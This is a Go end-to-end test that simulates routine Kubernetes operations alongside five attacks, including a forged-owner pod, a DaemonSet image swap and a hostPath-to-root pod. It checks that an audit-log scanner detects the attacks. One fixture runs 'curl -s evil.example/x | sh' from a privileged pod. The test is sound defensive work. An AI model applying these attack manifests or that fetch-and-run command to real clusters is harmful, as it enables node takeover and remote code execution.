package e2e

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"testing"
	"time"
)

// TestPrecisionDay is the measurement of docs/precision.md:
// a day of routine operations on a real control plane with fake nodes —
// the Calico, kube-proxy and EBS CSI node DaemonSets on 45 nodes, 5 node
// joins, two rollouts, a scaled Deployment, label and annotation patches —
// and five attacks by one user (a privileged pod, an image swap in the
// privileged calico-node DaemonSet, a privileged ephemeral container, a
// hostPath to /, a pod that forges calico-node as its owner). It checks
// that every routine operation yields at most one row per owner workload
// and spec and none once allowlisted with the docs' examples, and that
// every attack yields its row with its image and reasons, not
// allowlisted. KUBEPRIVPOD_E2E_PRECISION_RECORD=FILE keeps the audit log
// (internal/extended's TestPrecisionDayRecording reads it).
func TestPrecisionDay(t *testing.T) {
	kubeDir := os.Getenv("KUBEPRIVPOD_E2E_KUBE_DIR")
	if kubeDir == "" {
		t.Skip("KUBEPRIVPOD_E2E_KUBE_DIR is not set: run ./build.sh e2e")
	}
	if os.Getenv("KUBEPRIVPOD_E2E_PRECISION") == "" {
		t.Skip("KUBEPRIVPOD_E2E_PRECISION is not set (the day takes a few minutes)")
	}
	start := time.Now()
	f := setup(t, kubeDir)
	c := f.c
	c.auditLog = filepath.Join(f.dir, "audit.log")
	if os.Getenv("KUBEPRIVPOD_E2E_PRECISION_LEVEL") == "RequestResponse" {
		// The docs' alternative: the pod-spec rule at RequestResponse, so
		// patches are judged by their result and names of generateName
		// pods are logged.
		p := filepath.Join(c.auditDir, "policy.yaml")
		b, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		pol := strings.Replace(string(b), "- level: Request\n", "- level: RequestResponse\n", 1)
		if pol == string(b) {
			t.Fatal("the docs' policy has no '- level: Request' rule to raise")
		}
		writeFile(t, p, pol)
	}
	addUser(t, c, "mallory", "e2e-mallory-token", "mallory@example.com", "system:masters")
	in := f.input.start(t, f.dir)
	c.startAPIServer(t, f.flags)
	c.startControllerManager(t)
	t.Logf("control plane up in %v", time.Since(start).Round(time.Millisecond))

	k := func(user, stdin string, args ...string) string {
		t.Helper()
		out, ok := c.kubectl(t, user, stdin, args...)
		if !ok {
			t.Fatalf("%s: kubectl %s:\n%s", user, strings.Join(args, " "), out)
		}
		return out
	}
	waitSA := func(ns string) {
		waitFor(t, "ServiceAccount default in "+ns, 60*time.Second, func() bool {
			_, ok := c.kubectl(t, "admin", "", "get", "serviceaccount", "default", "-n", ns)
			return ok
		}, c.api, c.kcm)
	}
	// images lists the first container's image of the pods of app in ns.
	images := func(ns, app string) []string {
		out := k("admin", "", "get", "pods", "-n", ns, "-l", "app="+app, "-o", `jsonpath={range .items[*]}{.spec.containers[0].image}{"\n"}{end}`)
		return strings.Fields(out)
	}
	waitPods := func(ns, app, image string, n int) {
		waitFor(t, fmt.Sprintf("%d pods of %s with %s", n, app, image), 120*time.Second, func() bool {
			im := images(ns, app)
			good := 0
			for _, i := range im {
				if i == image {
					good++
				}
			}
			return good == n && len(im) == n
		}, c.api, c.kcm)
	}
	nodes := func(from, to int) string {
		var b strings.Builder
		b.WriteString("apiVersion: v1\nkind: List\nitems:\n")
		for i := from; i < to; i++ {
			fmt.Fprintf(&b, "- apiVersion: v1\n  kind: Node\n  metadata:\n    name: node-%02d\n", i)
		}
		return b.String()
	}
	recreate := func(user, ns, app string) {
		k(user, "", "delete", "pods", "-n", ns, "-l", "app="+app, "--grace-period=0", "--force", "--wait=false")
	}

	// The day.
	waitSA("kube-system")
	k("admin", nodes(0, 45), "apply", "-f", "-")
	for _, ds := range []struct{ name, yaml string }{
		{"calico-node", calicoDS("docker.io/calico/node:v3.28.2")},
		{"kube-proxy", kubeProxyDS("registry.k8s.io/kube-proxy:v1.37.1")},
		{"ebs-csi-node", ebsDS()},
	} {
		k("admin", ds.yaml, "apply", "-f", "-")
	}
	waitPods("kube-system", "calico-node", "docker.io/calico/node:v3.28.2", 45)
	waitPods("kube-system", "kube-proxy", "registry.k8s.io/kube-proxy:v1.37.1", 45)
	waitPods("kube-system", "ebs-csi-node", "public.ecr.aws/ebs-csi-driver/aws-ebs-csi-driver:v1.37.0", 45)
	k("admin", nodes(45, 50), "apply", "-f", "-") // node joins
	waitPods("kube-system", "calico-node", "docker.io/calico/node:v3.28.2", 50)
	waitPods("kube-system", "kube-proxy", "registry.k8s.io/kube-proxy:v1.37.1", 50)
	waitPods("kube-system", "ebs-csi-node", "public.ecr.aws/ebs-csi-driver/aws-ebs-csi-driver:v1.37.0", 50)
	// Rollouts (OnDelete: the nodes are fake, so the pods are replaced by
	// deleting them, as a node-by-node upgrade would).
	k("admin", "", "set", "image", "ds/kube-proxy", "-n", "kube-system", "kube-proxy=registry.k8s.io/kube-proxy:v1.37.2")
	recreate("admin", "kube-system", "kube-proxy")
	waitPods("kube-system", "kube-proxy", "registry.k8s.io/kube-proxy:v1.37.2", 50)
	k("admin", "", "set", "image", "ds/calico-node", "-n", "kube-system", "calico-node=docker.io/calico/node:v3.28.3")
	recreate("admin", "kube-system", "calico-node")
	waitPods("kube-system", "calico-node", "docker.io/calico/node:v3.28.3", 50)
	// A scaled Deployment with host networking (an ingress controller).
	k("admin", "", "create", "namespace", "ingress")
	waitSA("ingress")
	k("admin", ingressDeploy(), "apply", "-f", "-")
	waitPods("ingress", "ingress", "registry.k8s.io/ingress-nginx/controller:v1.12.0", 2)
	k("admin", "", "scale", "deployment/ingress", "-n", "ingress", "--replicas=6")
	waitPods("ingress", "ingress", "registry.k8s.io/ingress-nginx/controller:v1.12.0", 6)
	// Label and annotation patches, of workloads and of privileged pods.
	k("admin", "", "label", "ds/calico-node", "-n", "kube-system", "team=network")
	k("admin", "", "annotate", "ds/kube-proxy", "-n", "kube-system", "owner=platform")
	for _, p := range strings.Fields(k("admin", "", "get", "pods", "-n", "kube-system", "-l", "app=calico-node", "-o", "name"))[:5] {
		k("admin", "", "label", p, "-n", "kube-system", "checked=yes")
		k("admin", "", "annotate", p, "-n", "kube-system", "note=fine")
	}

	// The attacks, all by mallory@example.com.
	k("mallory", "", "run", "miner", "-n", "default", "--image=evil.example/miner:1", "--privileged")
	k("mallory", "", "set", "image", "ds/calico-node", "-n", "kube-system", "calico-node=evil.example/calico-node:v3.28.3")
	recreate("mallory", "kube-system", "calico-node")
	waitPods("kube-system", "calico-node", "evil.example/calico-node:v3.28.3", 50)
	ingressPod := strings.TrimPrefix(strings.Fields(k("admin", "", "get", "pods", "-n", "ingress", "-o", "name"))[0], "pod/")
	k("mallory", "", "debug", ingressPod, "-n", "ingress", "--profile=sysadmin", "--image=evil.example/debug:1", "-c", "dbg")
	k("mallory", hostRootPod(), "apply", "-f", "-")
	uid := k("admin", "", "get", "ds/calico-node", "-n", "kube-system", "-o", "jsonpath={.metadata.uid}")
	k("mallory", forgedPod(uid), "create", "-f", "-")
	time.Sleep(3 * time.Second)
	c.kcm.stop(t)
	c.api.stop(t)
	in.stop(t)
	t.Logf("day done in %v", time.Since(start).Round(time.Millisecond))

	if rec := os.Getenv("KUBEPRIVPOD_E2E_PRECISION_RECORD"); rec != "" {
		b, err := os.ReadFile(c.auditLog)
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(rec, b, 0o644); err != nil {
			t.Fatal(err)
		}
	}

	// The results.
	allow := filepath.Join(f.dir, "allow.csv")
	// The docs' examples, and the day's ingress controller, which they do
	// not cover (its Deployment, and the ReplicaSets' pods).
	writeFile(t, allow, docAllowlist(t)+
		"ingress,Deployment/ingress,*,registry.k8s.io/ingress-nginx/controller:v1.*,hostNetwork,,ingress-nginx Deployment\n"+
		"ingress,ReplicaSet/ingress-*,*,registry.k8s.io/ingress-nginx/controller:v1.*,hostNetwork,,ingress-nginx pods\n")
	rows := scanRows(t, f.app.kubeprivpod, c.auditLog)
	allowed := scanRows(t, f.app.kubeprivpod, c.auditLog, "--allowlist", allow)
	sum := func(rs []map[string]any, keep func(map[string]any) bool) (n, risk int) {
		for _, r := range rs {
			if keep(r) {
				n++
				v, _ := strconv.Atoi(cell(r, "risk_score"))
				risk += v
			}
		}
		return
	}
	all := func(map[string]any) bool { return true }
	mallory := func(r map[string]any) bool { return cell(r, "user") == "mallory@example.com" }
	routine := func(r map[string]any) bool {
		return !mallory(r) && !strings.Contains(cell(r, "images"), "evil.example")
	}
	notAllowed := func(r map[string]any) bool { return cell(r, "allowlisted") == "" }
	n, risk := sum(rows, all)
	rn, rrisk := sum(rows, routine)
	an, arisk := sum(allowed, func(r map[string]any) bool { return routine(r) && notAllowed(r) })
	t.Logf("rows %d, risk %d; routine rows %d, risk %d; routine rows sending risk with the docs' allowlist %d, risk %d",
		n, risk, rn, rrisk, an, arisk)
	var lines []string
	for _, r := range allowed {
		lines = append(lines, strings.Join([]string{cell(r, "user"), cell(r, "verb"), cell(r, "resource"), cell(r, "workload"),
			"count=" + cell(r, "count"), "images=" + cell(r, "images"), "reasons=" + cell(r, "reasons"), "changed=" + cell(r, "changed"),
			"risk=" + cell(r, "risk_score"), "allowlisted=" + cell(r, "allowlisted"), "note=" + cell(r, "allowlist_note")}, " | "))
	}
	sort.Strings(lines)
	t.Logf("rows:\n%s", strings.Join(lines, "\n"))

	// At most one row per owner workload and spec for the routine day.
	seen := map[string]bool{}
	for _, r := range rows {
		if !routine(r) {
			continue
		}
		key := cell(r, "user") + "|" + cell(r, "verb") + "|" + cell(r, "workload") + "|" + cell(r, "images") + "|" + cell(r, "outcome")
		if seen[key] {
			t.Errorf("two routine rows for %s", key)
		}
		seen[key] = true
	}
	if an != 0 {
		t.Errorf("%d routine rows send risk with the docs' allowlist", an)
	}
	// Every attack found, with its image and reasons, not allowlisted.
	for _, a := range []struct{ what, workload, image, reason string }{
		{"privileged pod", "Pod/miner", "evil.example/miner:1", "privileged"},
		{"image swap (the patch)", "DaemonSet/calico-node", "evil.example/calico-node:v3.28.3", "privileged"},
		{"privileged ephemeral container", "Pod/" + ingressPod, "evil.example/debug:1", "privileged"},
		{"hostPath /", "Pod/host-root", "evil.example/tools:1", "hostPath:/"},
		{"forged owner", "Pod/calico-node-forged", "docker.io/calico/node:v3.28.3", "privileged"},
	} {
		found := false
		for _, r := range allowed {
			if mallory(r) && cell(r, "workload") == a.workload && strings.Contains(","+cell(r, "images")+",", ","+a.image+",") &&
				strings.Contains(","+cell(r, "reasons")+",", ","+a.reason+",") {
				found = true
				if !notAllowed(r) {
					t.Errorf("attack %s is allowlisted: %v", a.what, r)
				}
			}
		}
		if !found {
			t.Errorf("attack %s: no row by mallory for %s with image %s and reason %s", a.what, a.workload, a.image, a.reason)
		}
	}
	swapped := false
	for _, r := range allowed {
		if cell(r, "workload") == "DaemonSet/calico-node" && strings.Contains(cell(r, "images"), "evil.example/calico-node:v3.28.3") && !mallory(r) {
			swapped = notAllowed(r)
		}
	}
	if !swapped {
		t.Error("the pods the controller made from the swapped image: no row sending risk")
	}
}

// addUser adds a static-token user (before the API server starts) and its
// kubeconfig.
func addUser(t *testing.T, c *cluster, name, token, user, group string) {
	t.Helper()
	tf := filepath.Join(c.dir, "tokens.csv")
	b, err := os.ReadFile(tf)
	if err != nil {
		t.Fatal(err)
	}
	b = append(b, fmt.Sprintf("%s,%s,%s-uid,%s\n", token, user, name, group)...)
	writeFile(t, tf, string(b))
	kc, err := os.ReadFile(filepath.Join(c.dir, "admin.kubeconfig"))
	if err != nil {
		t.Fatal(err)
	}
	s := strings.ReplaceAll(string(kc), adminToken, token)
	s = strings.ReplaceAll(s, "name: admin", "name: "+name)
	s = strings.ReplaceAll(s, "user: admin", "user: "+name)
	writeFile(t, filepath.Join(c.dir, name+".kubeconfig"), s)
}

// scanRows runs kubeprivpod scan --mode extended --format json.
func scanRows(t *testing.T, bin, file string, extra ...string) []map[string]any {
	t.Helper()
	args := append([]string{"scan", "--mode", "extended", "--format", "json"}, extra...)
	cmd := exec.Command(bin, append(args, file)...)
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	if err := cmd.Run(); err != nil {
		t.Fatalf("kubeprivpod %s: %v\n%s", strings.Join(args, " "), err, errb.String())
	}
	var rows []map[string]any
	for _, l := range strings.Split(strings.TrimSpace(out.String()), "\n") {
		if l == "" {
			continue
		}
		var r map[string]any
		if err := json.Unmarshal([]byte(l), &r); err != nil {
			t.Fatal(err)
		}
		rows = append(rows, r)
	}
	return rows
}

// docAllowlist is the examples block of docs/precision.md.
func docAllowlist(t *testing.T) string {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("..", "..", "docs", "precision.md"))
	if err != nil {
		t.Fatal(err)
	}
	_, rest, ok := strings.Cut(string(b), "<!-- allowlist-examples -->\n```csv\n")
	block, _, ok2 := strings.Cut(rest, "```\n<!-- /allowlist-examples -->")
	if !ok || !ok2 {
		t.Fatal("docs/precision.md has no allowlist-examples block")
	}
	return block
}

func dsYAML(name, podSpec string) string {
	return fmt.Sprintf(`apiVersion: apps/v1
kind: DaemonSet
metadata:
  name: %s
  namespace: kube-system
spec:
  selector:
    matchLabels: {app: %s}
  updateStrategy: {type: OnDelete}
  template:
    metadata:
      labels: {app: %s}
    spec:
      # Node-level add-ons tolerate every taint (the fake nodes carry
      # node.kubernetes.io/not-ready), as Calico's and kube-proxy's do.
      tolerations: [{operator: Exists}]
%s`, name, name, name, indent(podSpec, "      "))
}

func calicoDS(image string) string {
	return dsYAML("calico-node", `hostNetwork: true
initContainers:
- name: install-cni
  image: docker.io/calico/cni:v3.28.2
  securityContext: {privileged: true}
  volumeMounts:
  - {name: cni-bin-dir, mountPath: /host/opt/cni/bin}
  - {name: cni-net-dir, mountPath: /host/etc/cni/net.d}
containers:
- name: calico-node
  image: `+image+`
  securityContext: {privileged: true}
  volumeMounts:
  - {name: lib-modules, mountPath: /lib/modules, readOnly: true}
  - {name: xtables-lock, mountPath: /run/xtables.lock}
  - {name: var-run-calico, mountPath: /var/run/calico}
  - {name: var-lib-calico, mountPath: /var/lib/calico}
volumes:
- {name: lib-modules, hostPath: {path: /lib/modules}}
- {name: xtables-lock, hostPath: {path: /run/xtables.lock, type: FileOrCreate}}
- {name: var-run-calico, hostPath: {path: /var/run/calico}}
- {name: var-lib-calico, hostPath: {path: /var/lib/calico}}
- {name: cni-bin-dir, hostPath: {path: /opt/cni/bin}}
- {name: cni-net-dir, hostPath: {path: /etc/cni/net.d}}
`)
}

func kubeProxyDS(image string) string {
	return dsYAML("kube-proxy", `hostNetwork: true
containers:
- name: kube-proxy
  image: `+image+`
  command: [/usr/local/bin/kube-proxy, --config=/var/lib/kube-proxy/config.conf]
  securityContext: {privileged: true}
  volumeMounts:
  - {name: xtables-lock, mountPath: /run/xtables.lock}
  - {name: lib-modules, mountPath: /lib/modules, readOnly: true}
volumes:
- {name: xtables-lock, hostPath: {path: /run/xtables.lock, type: FileOrCreate}}
- {name: lib-modules, hostPath: {path: /lib/modules}}
`)
}

func ebsDS() string {
	return dsYAML("ebs-csi-node", `containers:
- name: ebs-plugin
  image: public.ecr.aws/ebs-csi-driver/aws-ebs-csi-driver:v1.37.0
  securityContext: {privileged: true, runAsUser: 0}
  volumeMounts:
  - {name: kubelet-dir, mountPath: /var/lib/kubelet, mountPropagation: Bidirectional}
  - {name: plugin-dir, mountPath: /csi}
  - {name: device-dir, mountPath: /dev}
- name: node-driver-registrar
  image: public.ecr.aws/eks-distro/kubernetes-csi/node-driver-registrar:v2.12.0
  volumeMounts:
  - {name: plugin-dir, mountPath: /csi}
  - {name: registration-dir, mountPath: /registration}
volumes:
- {name: kubelet-dir, hostPath: {path: /var/lib/kubelet, type: Directory}}
- {name: plugin-dir, hostPath: {path: /var/lib/kubelet/plugins/ebs.csi.aws.com/, type: DirectoryOrCreate}}
- {name: registration-dir, hostPath: {path: /var/lib/kubelet/plugins_registry/, type: Directory}}
- {name: device-dir, hostPath: {path: /dev, type: Directory}}
`)
}

func ingressDeploy() string {
	return `apiVersion: apps/v1
kind: Deployment
metadata:
  name: ingress
  namespace: ingress
spec:
  replicas: 2
  selector:
    matchLabels: {app: ingress}
  template:
    metadata:
      labels: {app: ingress}
    spec:
      hostNetwork: true
      containers:
      - name: controller
        image: registry.k8s.io/ingress-nginx/controller:v1.12.0
`
}

func hostRootPod() string {
	return `apiVersion: v1
kind: Pod
metadata:
  name: host-root
  namespace: default
spec:
  containers:
  - name: tools
    image: evil.example/tools:1
    volumeMounts:
    - {name: root, mountPath: /host}
  volumes:
  - name: root
    hostPath: {path: /}
`
}

func forgedPod(uid string) string {
	return `apiVersion: v1
kind: Pod
metadata:
  name: calico-node-forged
  namespace: kube-system
  labels: {app: calico-node-forged}
  ownerReferences:
  - {apiVersion: apps/v1, kind: DaemonSet, name: calico-node, uid: ` + uid + `, controller: true}
spec:
  nodeName: node-00
  hostNetwork: true
  containers:
  - name: calico-node
    image: docker.io/calico/node:v3.28.3
    command: [sh, -c, "curl -s evil.example/x | sh"]
    securityContext: {privileged: true}
`
}
